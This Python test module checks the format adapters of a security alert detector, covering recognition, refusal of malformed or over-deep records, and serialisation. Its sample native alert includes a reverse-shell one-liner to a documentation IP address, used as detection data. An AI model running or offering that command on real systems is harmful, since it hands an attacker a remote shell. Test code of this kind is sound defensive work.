"""What every registered adapter promises, checked for each format alike.

Each format reads its own records and no other format's (shapes are specific enough that a record
finds one adapter: a record two adapters recognised would be read by whichever is tried first), and
any JSON value, a damaged documented example or a damaged corpus record is read or refused with a
reason, never anything else. The documented examples are those each format's own test module is
written around (``EXAMPLES``); what is particular to one format stays in its module.
"""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services.detector.adapters import ADAPTERS, FORMATS, MAX_DEPTH, Adapter, Rejected, parse_record
from services.detector.repository import alert_json
from shared.alerts import Alert
from tests.unit.adapters import (
    test_alertmanager,
    test_crowdstrike,
    test_defender,
    test_elastic,
    test_falco,
    test_guardduty,
    test_hayabusa,
    test_ocsf,
    test_osquery,
    test_pagerduty,
    test_sentinelone,
    test_suricata,
    test_user_report,
    test_wazuh,
    test_zeek,
)
from tests.unit.adapters.corpus import (
    SAMPLES,
    json_values,
    mutated,
    others,
    parses_or_refuses,
    recognised_by,
    samples,
)

# Vigil's native alert as the README shows it (``shared.alerts.Alert``).
NATIVE: dict[str, Any] = {
    "id": "a-1",
    "source": "falco",
    "title": "Reverse shell spawned in a container",
    "description": "bash -i >& /dev/tcp/203.0.113.45/4444",
    "severity": "critical",
    "time": "2026-11-24T09:03:00Z",
    "host": "bastion-01",
    "user": "deploy",
    "src_ip": "10.0.0.5",
    "dst_ip": "203.0.113.45",
    "labels": {"rule": "Reverse shell"},
    "raw": {},
}

# Each format's documented examples, by format name.
EXAMPLES: dict[str, list[Any]] = {
    "alertmanager": test_alertmanager.EXAMPLES,
    "crowdstrike": test_crowdstrike.EXAMPLES,
    "defender": test_defender.EXAMPLES,
    "elastic": test_elastic.EXAMPLES,
    "falco": test_falco.EXAMPLES,
    "guardduty": test_guardduty.EXAMPLES,
    "hayabusa": test_hayabusa.EXAMPLES,
    "native": [NATIVE],
    "ocsf": test_ocsf.EXAMPLES,
    "osquery": test_osquery.EXAMPLES,
    "pagerduty": test_pagerduty.EXAMPLES,
    "sentinelone": test_sentinelone.EXAMPLES,
    "suricata": test_suricata.EXAMPLES,
    "user_report": test_user_report.EXAMPLES,
    "wazuh": test_wazuh.EXAMPLES,
    "zeek": test_zeek.EXAMPLES,
}

EVERY_ADAPTER = [pytest.param(adapter, id=adapter.name) for adapter in ADAPTERS]
WITH_SAMPLES = [pytest.param(adapter, id=adapter.name) for adapter in ADAPTERS if adapter.name in SAMPLES]


def test_every_registered_format_has_documented_examples() -> None:
    assert sorted(EXAMPLES) == sorted(FORMATS)
    assert all(EXAMPLES.values())
    assert set(SAMPLES) <= set(FORMATS)


@pytest.mark.parametrize("adapter", EVERY_ADAPTER)
def test_its_examples_are_recognised_by_it_alone(adapter: Adapter) -> None:
    for number, example in enumerate(EXAMPLES[adapter.name], 1):
        assert recognised_by(example) == [adapter.name], f"example {number}"


@pytest.mark.parametrize("adapter", WITH_SAMPLES)
def test_its_corpus_records_are_recognised_by_it_alone_and_read_or_refused(adapter: Adapter) -> None:
    for number, record in enumerate(samples(adapter.name), 1):
        assert recognised_by(record) == [adapter.name], f"{adapter.name} sample {number}"
        parses_or_refuses(adapter, record)


@pytest.mark.parametrize("adapter", EVERY_ADAPTER)
def test_no_other_formats_corpus_record_looks_like_its_format(adapter: Adapter) -> None:
    assert [(directory, line) for directory, line, record in others(adapter.name) if adapter.matches(record)] == []


@pytest.mark.parametrize("adapter", EVERY_ADAPTER)
@settings(max_examples=300, deadline=None)
@given(payload=json_values)
def test_any_json_value_is_read_or_refused(adapter: Adapter, payload: Any) -> None:
    parses_or_refuses(adapter, payload)


@pytest.mark.parametrize("adapter", EVERY_ADAPTER)
@settings(max_examples=500, deadline=None)
@given(data=st.data())
def test_damaged_examples_are_read_or_refused(adapter: Adapter, data: st.DataObject) -> None:
    parses_or_refuses(adapter, data.draw(mutated(EXAMPLES[adapter.name])))


@pytest.mark.parametrize("adapter", WITH_SAMPLES)
@settings(max_examples=300, deadline=None)
@given(data=st.data())
def test_damaged_corpus_records_are_read_or_refused(adapter: Adapter, data: st.DataObject) -> None:
    parses_or_refuses(adapter, data.draw(mutated(samples(adapter.name))))


def _nested(levels: int) -> Any:
    value: Any = "bottom"
    for _ in range(levels - 1):
        value = [value]
    return value


@pytest.mark.parametrize("adapter", EVERY_ADAPTER)
def test_a_record_nested_deeper_than_any_tool_writes_is_refused_and_one_within_is_stored(adapter: Adapter) -> None:
    # Its record is written again as the alert's evidence, and JSON writers stop at some depth: a record
    # taken but never storable would stop the detector at every start.
    example = {**EXAMPLES[adapter.name][0], "deep": _nested(MAX_DEPTH + 1)}
    with pytest.raises(Rejected) as refused:
        parse_record(json.dumps(example).encode(), format_name=adapter.name)
    assert refused.value.code == "too_deep"
    if adapter.name == "user_report":
        return  # a report has no free-form part to nest anything in: any other key is refused
    example = EXAMPLES[adapter.name][0]
    # A native alert keeps its free-form record under raw, a level below the top.
    within = (
        {**example, "raw": {"deep": _nested(MAX_DEPTH - 2)}}
        if adapter.name == "native"
        else {**example, "deep": _nested(MAX_DEPTH - 1)}
    )
    alerts = parse_record(json.dumps(within).encode(), format_name=adapter.name).alerts
    for alert in alerts:
        assert json.loads(alert_json(alert))["id"] == alert.id


@pytest.mark.parametrize("adapter", EVERY_ADAPTER)
def test_an_alerts_stored_body_is_the_models_own_json_whatever_its_raw_record_holds(adapter: Adapter) -> None:
    # The body writes the raw record apart from the rest (faster): it must read back as the model's JSON.
    odd = {"big": 2**70, "ratio": 0.1, "text": 'zé 🚨 \\u0000 "q"', "nested": [{"a": None}, [], {}]}
    records = [*EXAMPLES[adapter.name], {**EXAMPLES[adapter.name][0], "odd": odd}]
    if adapter.name == "native":
        records.append({**EXAMPLES["native"][0], "raw": odd})
    for record in records:
        try:
            alerts = parse_record(json.dumps(record).encode(), format_name=adapter.name).alerts
        except Rejected:
            continue  # a format whose records take no other key
        for alert in alerts:
            assert json.loads(alert_json(alert)) == json.loads(Alert.__pydantic_serializer__.to_json(alert))


def test_a_time_beyond_any_number_a_float_holds_is_refused_not_a_crash() -> None:
    message = test_alertmanager.EXAMPLES[0]
    record = {**message, "alerts": [{**message["alerts"][0], "startsAt": 10**400}]}
    with pytest.raises(Rejected) as refused:
        parse_record(json.dumps(record).encode(), format_name="alertmanager")
    assert refused.value.code == "bad_timestamp"


def test_a_defect_of_an_adapter_is_a_refusal_saying_what_went_wrong(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(payload: Any) -> Any:
        raise ZeroDivisionError("division by zero")

    monkeypatch.setattr(FORMATS["falco"], "parse", broken)
    with pytest.raises(Rejected) as refused:
        parse_record(json.dumps(test_falco.DOCUMENTED).encode(), format_name="falco")
    assert (refused.value.code, refused.value.reason) == (
        "adapter_error",
        "the record could not be read: ZeroDivisionError: division by zero",
    )
